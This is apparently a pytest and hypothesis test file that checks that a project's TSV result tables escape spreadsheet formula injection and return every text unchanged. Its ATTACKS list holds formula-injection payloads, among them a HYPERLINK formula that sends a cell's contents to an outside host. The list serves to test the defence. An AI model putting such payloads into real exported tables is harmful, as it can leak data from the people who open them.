"""Tables: no cell starts a formula, and every text comes back as it was."""

import csv
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from wsi_scale.artifacts.audit import write_audit
from wsi_scale.artifacts.breakhis import BreakHisRow, write_breakhis
from wsi_scale.artifacts.status import StatusRow, read_status, write_status
from wsi_scale.artifacts.table import as_cell, from_cell, read_table, write_table
from wsi_scale.results.audit import unreadable_row

#: What a spreadsheet looks for first in a cell.
STARTS = "=+-@＝＋－＠\t\r\n"
ATTACKS = [
    *("=1+1", "+1+1", "-1-1", "@SUM(A1)", "＝1+1", "－1-1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1"),
    *("'=1+1", "''=1+1", "' =1+1", '=HYPERLINK("http://x/?"&A1)', "-", "=", "--1", "-1e", "-٣", "-inf", "+-1"),
]
texts = st.text(st.sampled_from([*STARTS, "'", " ", '"', ",", ";", "1", "e", ".", "a", "µ"]) | st.characters(
    blacklist_categories=("Cs",)), max_size=8)  # fmt: skip


def starts_a_formula(cell: str) -> bool:
    """Whether a spreadsheet computes a cell: its first sign is one of a formula's, and it is not a number."""
    try:
        return cell[:1] in {"\t", "\r", "\n"} or (cell.lstrip()[:1] in set(STARTS) and float(cell) != float(cell))
    except ValueError:
        return True


@given(texts)
@settings(max_examples=300, deadline=None)
def test_no_text_starts_a_formula_and_each_comes_back(text: str) -> None:
    assert not starts_a_formula(as_cell(text))
    assert from_cell(as_cell(text)) == text


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_becomes_text(text: str) -> None:
    assert as_cell(text) == f"'{text}"
    assert from_cell(f"'{text}") == text


@pytest.mark.parametrize("text", ["-0.5", "+3", "-1e-05", "-.5", "-1.", "0.25", "it's", "'tis", "", "a=b", "#1", "–"])
def test_numbers_and_plain_texts_stay(text: str) -> None:
    assert as_cell(text) == from_cell(text) == text


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
@example(2**53 + 1)
def test_a_number_stays_a_number(number: float) -> None:
    assert type(number)(as_cell(number)) == number
    assert from_cell(as_cell(number)) == as_cell(number)


def test_what_a_reader_wrote_before_is_read() -> None:
    assert from_cell("=1+1") == "=1+1"


@given(st.lists(st.tuples(texts, texts), max_size=5))
@example([("a\rb", "c\nd"), ('"', "\r\n")])
@settings(max_examples=100, deadline=None)
def test_a_table_comes_back(tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str, str]]) -> None:
    path = tmp_path_factory.getbasetemp() / "table" / "any.tsv"
    write_table(path, ("one", "two"), rows)
    assert [tuple(row.values()) for row in read_table(path, ("one", "two"))] == rows


def test_a_table_with_a_row_too_short_or_long_is_refused(tmp_path: Path) -> None:
    for row in ("a", "a\tb\tc"):
        (tmp_path / "t.tsv").write_text(f"one\ttwo\n{row}\n")
        with pytest.raises(ValueError, match=r"a row has \d cells under 2 columns"):
            read_table(tmp_path / "t.tsv", ("one", "two"))


def read(path: Path) -> list[list[str]]:
    """Cells of a table as a spreadsheet sees them, without its header."""
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream, delimiter="\t"))[1:]


def test_every_table_of_results_is_harmless(tmp_path: Path) -> None:
    statuses = [StatusRow(text, text, "failed", text) for text in ATTACKS]
    write_status(tmp_path, statuses)
    write_audit(tmp_path, [unreadable_row(text, text, text) for text in ATTACKS])
    write_breakhis(tmp_path, [BreakHisRow(text, text, text, 40, 1, -0.5, 40, -1.5, 100) for text in ATTACKS], {})

    tables = {name: read(tmp_path / name) for name in ("status.tsv", "audit.tsv", "breakhis.tsv")}

    assert not [cell for table in tables.values() for row in table for cell in row if starts_a_formula(cell)]
    assert read_status(tmp_path / "status.tsv") == statuses
    assert [from_cell(row[-2]) for row in tables["audit.tsv"]] == ATTACKS
    assert [row[5:] for row in tables["breakhis.tsv"]] == [["-0.5", "40", "-1.5", "100"]] * len(ATTACKS)
